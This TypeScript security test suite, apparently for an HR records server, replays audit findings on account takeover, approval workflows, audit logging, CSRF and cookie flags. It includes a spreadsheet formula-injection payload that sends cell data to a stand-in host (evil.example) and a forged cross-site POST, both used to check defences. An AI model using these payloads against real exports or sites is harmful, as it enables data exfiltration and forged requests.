/**
 * Issue 18, findings 1, 5, 6 and 9, replayed over HTTP against the real server on PostgreSQL, as a hostile
 * insider would try them (docs/security.md):
 * - a system administrator cannot set another person's password (single or bulk); an e-mail change, a
 *   second-factor reset and re-enabling of an account that reads personal data wait for ministry HR; every step
 *   is an audit event;
 * - moving a unit that holds people waits for ministry HR, and is audited;
 * - grants, the reminders people list and its Excel export are audit events; the auditor's CSV neutralises
 *   formula cells;
 * - a cookie-authenticated change posted from another site is refused with PUBLIC_URL unset; cookies are
 *   Secure over https.
 */
import pg from 'pg'
import type { Payload } from 'payload'

import { seedDemoData } from '../../src/seed/seed'
import { auditTrail } from '../helpers/auditTrail'
import { callAs, loginToken } from '../helpers/auth'
import { startTestPayload, stopTestPayload } from '../helpers/payload'
import { startTestServer, type TestServer } from '../helpers/server'

const PASSWORD = 'mat-khau-thu-nghiem-2026'
let payload: Payload
let server: TestServer
let sql: pg.Pool
const tokens: Record<string, string> = {}
const ids: Record<string, number> = {}
let vccvc: number

const call = (who: string, method: string, path: string, body?: unknown, headers: Record<string, string> = {}) => callAs(server.url, tokens[who], method, path, body, headers)
const account = async (id: number) =>
  (await sql.query('SELECT email, disabled, totp_enabled_at, totp_secret FROM accounts WHERE id = $1', [id])).rows[0] as {
    email: string
    disabled: boolean
    totp_enabled_at: Date | null
    totp_secret: string | null
  }
type Event = { operation: string; target_collection: string; record_ids: string; detail: Record<string, unknown> | null; user_agent: string | null }
const eventsAfter = (seq: number) => auditTrail<Event>(sql).eventsAfter(seq)
const lastSeq = () => auditTrail(sql).lastSeq()
const pendingRequest = async (kind: string) =>
  (await sql.query(`SELECT id, account_id, unit_id, new_email, new_parent_id FROM security_requests WHERE kind = $1 AND status = 'pending' ORDER BY id DESC LIMIT 1`, [kind])).rows[0] as
    | { id: number; account_id: number | null; unit_id: number | null; new_email: string | null; new_parent_id: number | null }
    | undefined

beforeAll(async () => {
  process.env.DEMO_PASSWORD = PASSWORD
  const started = await startTestPayload()
  payload = started.payload
  await seedDemoData(payload, { staff: 30 })
  await payload.create({ collection: 'accounts', data: { email: 'kiemtra@test.local', password: PASSWORD, roles: ['auditor'] } as never })
  await payload.create({ collection: 'accounts', data: { email: 'vanhanh@test.local', password: PASSWORD, roles: ['sysadmin'] } as never })
  sql = new pg.Pool({ connectionString: started.databaseUrl, max: 3 })
  vccvc = Number((await sql.query(`SELECT id FROM units WHERE code = 'VCCVC'`)).rows[0].id)
  server = await startTestServer({ DATABASE_URL: started.databaseUrl })
  const cast = { admin: 'admin@hoso.local', hr: 'nhansu@hoso.local', staff: 'canbo@hoso.local', ministry: 'tccb@hoso.local', auditor: 'kiemtra@test.local', ops: 'vanhanh@test.local' }
  for (const [who, email] of Object.entries(cast)) {
    tokens[who] = await loginToken(server.url, email, PASSWORD)
    ids[who] = Number((await sql.query('SELECT id FROM accounts WHERE email = $1', [email])).rows[0].id)
  }
}, 600_000)

afterAll(async () => {
  await server?.stop('SIGKILL')
  await sql?.end()
  await stopTestPayload(payload)
})

describe('finding 6: audit events and the CSV', () => {
  test('a grant created and approved is two audit events, with what it gives', async () => {
    const start = await lastSeq()
    const today = new Date().toISOString().slice(0, 10)
    const created = await call('ministry', 'POST', '/api/access-grants', {
      grantee: ids.hr, action: 'read', units: [vccvc], purpose: 'Thẩm định hồ sơ bổ nhiệm', validFrom: today, validTo: `${Number(today.slice(0, 4)) + 1}${today.slice(4)}`,
    })
    expect(created.status).toBe(201)
    const grantId = created.body.doc.id as number
    expect((await call('ministry', 'PATCH', `/api/access-grants/${grantId}`, { status: 'approved' })).status).toBe(200)
    const events = (await eventsAfter(start)).filter((e) => e.target_collection === 'access-grants')
    expect(events.map((e) => e.operation)).toEqual(['grant', 'approve'])
    for (const e of events) expect(e.record_ids).toBe(`.${grantId}.`)
    expect(events[0]!.detail).toMatchObject({ grantee: ids.hr, action: 'read', units: [vccvc], status: 'pending' })
  })

  test('the reminders people list is a read and its Excel export an export, naming the people shown', async () => {
    const start = await lastSeq()
    const list = await call('hr', 'GET', '/api/reminder-sends/people?filter=all')
    expect(list.status).toBe(200)
    const shown = (list.body.people as Array<{ staffId: number }>).map((p) => p.staffId)
    expect(shown.length).toBeGreaterThan(0)
    const xlsx = await fetch(`${server.url}/api/reminder-sends/export?filter=all`, { headers: { Authorization: `JWT ${tokens.hr}` } })
    expect(xlsx.status).toBe(200)
    await xlsx.arrayBuffer()
    const events = (await eventsAfter(start)).filter((e) => (e.detail as { view?: string } | null)?.view?.startsWith('reminders-people'))
    // A read is chained from the outbox after the export's direct write: compare as a set.
    expect(events.map((e) => e.operation).sort()).toEqual(['export', 'read'])
    for (const e of events) expect(e.record_ids).toBe(`.${shown.join('.')}.`)
  })

  test("the auditor's CSV shows a formula-like User-Agent as text", async () => {
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"Xem ngay")'
    expect((await call('hr', 'GET', '/api/staff?limit=1&depth=0', undefined, { 'User-Agent': evil, 'X-Request-Id': '@SUM(1+1)' })).status).toBe(200)
    const csv = await fetch(`${server.url}/api/audit-events/export.csv`, { headers: { Authorization: `JWT ${tokens.auditor}` } })
    expect(csv.status).toBe(200)
    const text = await csv.text()
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Xem ngay"")"`)
    expect(text).toContain(`"'@SUM(1+1)"`)
    expect(text).not.toContain(`"=HYPERLINK`)
    expect(text).not.toContain(`"@SUM`)
  })
})

describe('finding 1: nobody takes over another account', () => {
  test("a system administrator cannot set another person's password, one by one or in bulk", async () => {
    const start = await lastSeq()
    const single = await call('admin', 'PATCH', `/api/accounts/${ids.ministry}`, { password: 'mat-khau-chiem-quyen-2026' })
    expect(single.status).toBe(403)
    expect(single.raw).toContain('mật khẩu')
    const bulk = await call('admin', 'PATCH', `/api/accounts?where[email][equals]=tccb@hoso.local`, { password: 'mat-khau-chiem-quyen-2026' })
    expect(bulk.status).toBe(403)
    const taken = await fetch(`${server.url}/api/accounts/login`, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ email: 'tccb@hoso.local', password: 'mat-khau-chiem-quyen-2026' }) })
    expect(taken.status).toBe(401)
    expect(await loginToken(server.url, 'tccb@hoso.local', PASSWORD)).toEqual(expect.any(String))
    expect((await eventsAfter(start)).filter((e) => e.target_collection === 'accounts' && e.operation === 'update')).toEqual([])
  })

  test('changing one’s own password is an audit event', async () => {
    const start = await lastSeq()
    const mine = await call('ops', 'PATCH', `/api/accounts/${ids.ops}`, { password: 'mot-cau-mat-khau-moi-rat-dai-2026' })
    expect(mine.status).toBe(200)
    const events = (await eventsAfter(start)).filter((e) => e.target_collection === 'accounts' && e.operation === 'update')
    expect(events).toHaveLength(1)
    expect(events[0]).toMatchObject({ record_ids: `.${ids.ops}.`, detail: { change: 'password' } })
  })

  test('a password set through a reset link is an audit event of the holder', async () => {
    const token = await payload.forgotPassword({ collection: 'accounts', data: { email: 'canbo@hoso.local' }, disableEmail: true })
    expect(token).toEqual(expect.any(String))
    const start = await lastSeq()
    const res = await fetch(`${server.url}/api/accounts/reset-password`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ token, password: 'cau-mat-khau-dat-lai-rat-dai-2026' }),
    })
    expect(res.status).toBe(200)
    const events = (await eventsAfter(start)).filter((e) => e.target_collection === 'accounts' && e.operation === 'update')
    expect(events).toHaveLength(1)
    expect(events[0]).toMatchObject({ record_ids: `.${ids.staff}.`, detail: { change: 'password', via: 'reset-link' } })
  })

  test('a second-factor reset of an HR officer waits for ministry HR; the administrator cannot approve it', async () => {
    await sql.query(`UPDATE accounts SET totp_secret = 'sealed-secret', totp_enabled_at = now() WHERE id = $1`, [ids.hr])
    const start = await lastSeq()
    const asked = await call('admin', 'POST', `/api/accounts/${ids.hr}/mfa/reset`)
    expect(asked.status).toBe(202)
    expect(asked.body).toMatchObject({ pending: true })
    expect((await account(ids.hr!)).totp_enabled_at).not.toBeNull()
    const request = await pendingRequest('second-factor-reset')
    expect(request).toMatchObject({ account_id: ids.hr })
    const self = await call('admin', 'PATCH', `/api/security-requests/${request!.id}`, { status: 'approved' })
    expect(self.status).toBe(400)
    expect((await account(ids.hr!)).totp_enabled_at).not.toBeNull()
    expect((await call('ministry', 'PATCH', `/api/security-requests/${request!.id}`, { status: 'approved' })).status).toBe(200)
    const after = await account(ids.hr!)
    expect(after.totp_enabled_at).toBeNull()
    expect(after.totp_secret).toBeNull()
    const events = (await eventsAfter(start)).filter((e) => e.target_collection === 'accounts')
    expect(events.map((e) => [e.operation, (e.detail as { change?: string }).change])).toEqual([
      ['update', 'second-factor-reset'],
      ['approve', 'second-factor-reset'],
    ])
  })

  test("an e-mail change of an HR officer waits for ministry HR; an administrator's own ops account changes at once", async () => {
    const start = await lastSeq()
    const asked = await call('admin', 'PATCH', `/api/accounts/${ids.hr}`, { email: 'ke-gian@evil.example' })
    expect(asked.status).toBe(200)
    expect((await account(ids.hr!)).email).toBe('nhansu@hoso.local')
    const request = await pendingRequest('email-change')
    expect(request).toMatchObject({ account_id: ids.hr, new_email: 'ke-gian@evil.example' })
    expect((await call('ministry', 'PATCH', `/api/security-requests/${request!.id}`, { status: 'refused' })).status).toBe(200)
    expect((await account(ids.hr!)).email).toBe('nhansu@hoso.local')
    expect((await call('admin', 'PATCH', `/api/accounts/${ids.ops}`, { email: 'vanhanh2@test.local' })).status).toBe(200)
    expect((await account(ids.ops!)).email).toBe('vanhanh2@test.local')
    const events = (await eventsAfter(start)).filter((e) => e.target_collection === 'accounts')
    expect(events.map((e) => [e.operation, (e.detail as { change?: string }).change, e.record_ids])).toEqual([
      ['update', 'email-change', `.${ids.hr}.`],
      ['return', 'email-change', `.${ids.hr}.`],
      ['update', 'email', `.${ids.ops}.`],
    ])
  })

  test('disabling applies at once; re-enabling an HR officer waits for ministry HR', async () => {
    const start = await lastSeq()
    expect((await call('admin', 'PATCH', `/api/accounts/${ids.hr}`, { disabled: true })).status).toBe(200)
    expect((await account(ids.hr!)).disabled).toBe(true)
    expect((await call('admin', 'PATCH', `/api/accounts/${ids.hr}`, { disabled: false })).status).toBe(200)
    expect((await account(ids.hr!)).disabled).toBe(true)
    const request = await pendingRequest('enable')
    expect(request).toMatchObject({ account_id: ids.hr })
    expect((await call('ministry', 'PATCH', `/api/security-requests/${request!.id}`, { status: 'approved' })).status).toBe(200)
    expect((await account(ids.hr!)).disabled).toBe(false)
    const events = (await eventsAfter(start)).filter((e) => e.target_collection === 'accounts')
    expect(events.map((e) => [e.operation, (e.detail as { change?: string }).change])).toEqual([
      ['update', 'disabled'],
      ['update', 'enable'],
      ['approve', 'enable'],
    ])
  })

  test('the administrator may send a reset link to the account’s own address (audited)', async () => {
    const start = await lastSeq()
    expect((await call('admin', 'POST', `/api/accounts/${ids.ministry}/reset-link`)).status).toBe(200)
    const events = (await eventsAfter(start)).filter((e) => e.target_collection === 'accounts')
    expect(events).toHaveLength(1)
    expect(events[0]).toMatchObject({ operation: 'update', record_ids: `.${ids.ministry}.`, detail: { change: 'reset-link-sent' } })
    expect((await call('hr', 'POST', `/api/accounts/${ids.ministry}/reset-link`)).status).toBe(403)
  })
})

describe('finding 9: cross-site requests and cookies', () => {
  const unitCount = async () => Number((await sql.query('SELECT count(*) AS n FROM units')).rows[0].n)

  test('a cookie-only form posted from another site is refused, with PUBLIC_URL unset; our own page is not', async () => {
    const before = await unitCount()
    const form = new FormData()
    form.append('_payload', JSON.stringify({ code: 'CSRF1', name: 'Đơn vị giả', type: 'division', parent: vccvc }))
    const cross = await fetch(`${server.url}/api/units`, {
      method: 'POST',
      headers: { Cookie: `payload-token=${tokens.admin}`, Origin: 'http://evil.example', 'Sec-Fetch-Site': 'cross-site' },
      body: form,
    })
    expect(cross.status).toBe(403)
    const noFetchMetadata = await fetch(`${server.url}/api/units`, { method: 'POST', headers: { Cookie: `payload-token=${tokens.admin}`, Origin: 'http://evil.example' }, body: form })
    expect(noFetchMetadata.status).toBe(403)
    expect(await unitCount()).toBe(before)
    const own = await fetch(`${server.url}/api/units`, {
      method: 'POST',
      headers: { Cookie: `payload-token=${tokens.admin}`, Origin: server.url, 'Sec-Fetch-Site': 'same-origin', 'Content-Type': 'application/json' },
      body: JSON.stringify({ code: 'OWN1', name: 'Phòng thử nghiệm', type: 'division', parent: vccvc }),
    })
    expect(own.status).toBe(201)
    expect(await unitCount()).toBe(before + 1)
  })

  test('cookies are Secure when the request came over https', async () => {
    const login = (headers: Record<string, string>) =>
      fetch(`${server.url}/api/accounts/login`, { method: 'POST', headers: { 'Content-Type': 'application/json', ...headers }, body: JSON.stringify({ email: 'kiemtra@test.local', password: PASSWORD }) })
    const https = await login({ 'X-Forwarded-Proto': 'https' })
    expect(https.status).toBe(200)
    const cookies = https.headers.getSetCookie()
    expect(cookies.length).toBeGreaterThan(0)
    for (const c of cookies) expect(c).toMatch(/;\s*Secure/i)
    const plain = await login({})
    expect(plain.headers.getSetCookie().some((c) => /;\s*Secure/i.test(c))).toBe(false)
  })
})

describe('finding 5: moving a unit that holds people', () => {
  test('waits for ministry HR and is audited; an empty unit moves at once (audited too)', async () => {
    const people = Number((await sql.query(`SELECT count(*) AS n FROM staff WHERE unit_id = $1`, [vccvc])).rows[0].n)
    expect(people).toBeGreaterThan(0)
    const { rows } = await sql.query(`SELECT id FROM units WHERE id <> $1 AND parent_id IS NOT NULL AND path NOT LIKE '%.' || $1 || '.%' ORDER BY id LIMIT 1`, [vccvc])
    const target = Number(rows[0].id)
    const parentBefore = (await sql.query('SELECT parent_id FROM units WHERE id = $1', [vccvc])).rows[0].parent_id
    const start = await lastSeq()
    expect((await call('admin', 'PATCH', `/api/units/${vccvc}`, { parent: target })).status).toBe(200)
    expect((await sql.query('SELECT parent_id FROM units WHERE id = $1', [vccvc])).rows[0].parent_id).toBe(parentBefore)
    const request = await pendingRequest('unit-move')
    expect(request).toMatchObject({ unit_id: vccvc, new_parent_id: target })
    expect((await call('admin', 'PATCH', `/api/security-requests/${request!.id}`, { status: 'approved' })).status).toBe(400)
    expect((await call('ministry', 'PATCH', `/api/security-requests/${request!.id}`, { status: 'approved' })).status).toBe(200)
    expect((await sql.query('SELECT parent_id FROM units WHERE id = $1', [vccvc])).rows[0].parent_id).toBe(target)

    const empty = (await sql.query(`SELECT id FROM units WHERE code = 'OWN1'`)).rows[0].id as number
    expect((await call('admin', 'PATCH', `/api/units/${empty}`, { parent: target })).status).toBe(200)
    expect((await sql.query('SELECT parent_id FROM units WHERE id = $1', [empty])).rows[0].parent_id).toBe(target)
    const events = (await eventsAfter(start)).filter((e) => e.target_collection === 'units')
    expect(events.map((e) => [e.operation, e.record_ids, (e.detail as { change?: string }).change])).toEqual([
      ['update', `.${vccvc}.`, 'unit-move'],
      ['approve', `.${vccvc}.`, 'unit-move'],
      ['update', `.${empty}.`, 'unit-move'],
    ])
  })
})
